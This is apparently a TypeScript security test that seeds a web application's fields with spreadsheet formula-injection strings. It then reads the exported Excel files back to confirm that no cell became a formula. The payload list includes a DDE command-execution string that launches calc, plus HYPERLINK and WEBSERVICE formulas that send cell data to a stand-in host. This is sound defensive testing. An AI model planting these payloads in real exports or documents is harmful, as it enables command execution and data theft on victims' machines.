// E-24: texts that a spreadsheet would take for a formula, in every field that ends in an Excel file, read back with exceljs, which did not write them. No cell
// is a formula, each text is as it was entered, and a negative number is a number.

import ExcelJS from 'exceljs';
import { convertToExcel } from '@vigilo/contract/extraction';
import { downloadDocumentReport } from '@vigilo/contract/documents';
import { addToPortfolio } from '@vigilo/contract/portfolio';
import { getCompaniesExcel, getPortfolioExcel } from '@vigilo/contract/reports';
import { addTestDocument } from '../../apps/api/src/documents/testing/test-documents.ts';
import { saveChildren } from '../../apps/api/src/extraction/extraction.service.ts';
import { makeChild, makeRow } from '../../apps/api/src/extraction/testing/sample-children.ts';
import type { TestClient } from '../../apps/api/src/app/testing/test-client.ts';
import type { Experiment } from '../testing/experiment.ts';
import { noneOf } from '../testing/experiment.ts';
import { today } from '../testing/score-check.ts';
import type { Site } from '../testing/site.ts';
import { ADMIN, withSite } from '../testing/site.ts';

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  "'=",
  '=-',
  '@@',
  '%0A=',
];
const ENDS = [
  '1+1',
  "SUM(1)*cmd|' /C calc'!A0",
  'HYPERLINK("http://x.test/?d="&A1,"click")',
  'WEBSERVICE("http://x.test")',
];
/** Any formula that is left in a file would be in one of its cells. */
const PAYLOADS = STARTS.flatMap((start) => ENDS.map((end) => `${start}${end}`));
const MARK = /1\+1|SUM\(1\)|HYPERLINK|WEBSERVICE/;
const NEGATIVE = -300;

interface Seen {
  cells: number;
  marked: number;
  formulas: number;
  changed: number;
  numbers: number;
}

export const experiment: Experiment = {
  title: 'formulas in every field that ends in an Excel file',
  minutes: 3,
  run: () =>
    withSite(
      {
        tenant: {
          companies: PAYLOADS.map((payload, i) => ({
            ticker: `F${i}`,
            name: `${payload} ${i}`,
            sector: payload,
            industry: payload,
            country: payload,
            events: [{ day: today() - 2, type: 'Company', score: NEGATIVE, title: payload }],
          })),
          clients: [{ name: `${PAYLOADS[0] ?? ''} client`, companies: ['F0'] }],
        },
      },
      async (site) => {
        const client = await site.as(ADMIN);
        const documentId = await addDocuments(site);
        for (const i of PAYLOADS.keys()) await client.put(addToPortfolio.path, { ticker: `F${i}` });
        const seen: Seen = { cells: 0, marked: 0, formulas: 0, changed: 0, numbers: 0 };
        const files = await listFiles(client, documentId);
        for (const file of files) await readFile(file, seen);
        return {
          lines: [
            `${PAYLOADS.length} texts (${STARTS.length} beginnings, full-width ones among them, with ${ENDS.length} formulas) as names, sectors, industries and countries of companies, names of clients, names, regions and projects of documents, and keys, values and`,
            'cells read from a document; the Excel files of companies, portfolio, documents and child documents are read with exceljs.',
          ],
          counts: { files: files.length, cells: seen.cells, 'cells with such a text': seen.marked },
          findings: [
            noneOf('cells that are formulas', seen.formulas, seen.cells),
            noneOf('texts that differ from what was entered', seen.changed, seen.marked),
            noneOf('numbers that are no numbers', PAYLOADS.length * 2 > seen.numbers ? 1 : 0, seen.numbers),
          ],
        };
      },
    ),
};

async function addDocuments(site: Site): Promise<string> {
  const clientId = site.tenant.clientId(`${PAYLOADS[0] ?? ''} client`);
  const place = { clientId, status: 'Processed' as const };
  for (const payload of PAYLOADS)
    await addTestDocument(site.db, site.tenant.id, {
      ...place,
      name: payload,
      region: payload,
      project: payload,
    });
  const id = await addTestDocument(site.db, site.tenant.id, { ...place, name: 'read.pdf' });
  const text = { DataFormat: { DataType: 'string' as const, AllowedValues: [], Pattern: '' } };
  const rows = PAYLOADS.map((payload, i) =>
    makeRow({ SSOTKey: `${payload} ${i}`, Value: payload, RawValue: payload, Category: payload, ...text }),
  );
  await site.query((tx) =>
    saveChildren(tx, { tenantId: site.tenant.id, id }, [{ ...makeChild('=1+1'), rows }]),
  );
  return id;
}

async function listFiles(client: TestClient, documentID: string): Promise<Buffer[]> {
  const replies = [
    await client.post(getCompaniesExcel.path, {}),
    await client.post(getPortfolioExcel.path, {}),
    await client.post(downloadDocumentReport.path, {}),
    await client.post(convertToExcel.path, { documentID }),
  ];
  for (const reply of replies)
    if (reply.status !== 200) throw new Error(`${reply.status} ${reply.text.slice(0, 200)}`);
  return replies.map(({ bytes }) => bytes);
}

async function readFile(file: Buffer, seen: Seen): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(file).buffer);
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        seen.cells += 1;
        seen.formulas +=
          cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink ? 1 : 0;
        seen.numbers += cell.type === ExcelJS.ValueType.Number && Number(cell.value) < 0 ? 1 : 0;
        if (!MARK.test(cell.text)) return;
        seen.marked += 1;
        seen.changed += isEntered(cell.text) ? 0 : 1;
      }),
    ),
  );
}

/** A name has its number behind it; white space at the ends is cut where a field is. */
function isEntered(text: string): boolean {
  const plain = (value: string) => value.replaceAll(/\s+/g, ' ').trim();
  return PAYLOADS.some(
    (payload) => plain(text).startsWith(plain(payload)) || plain(text).includes(plain(payload)),
  );
}
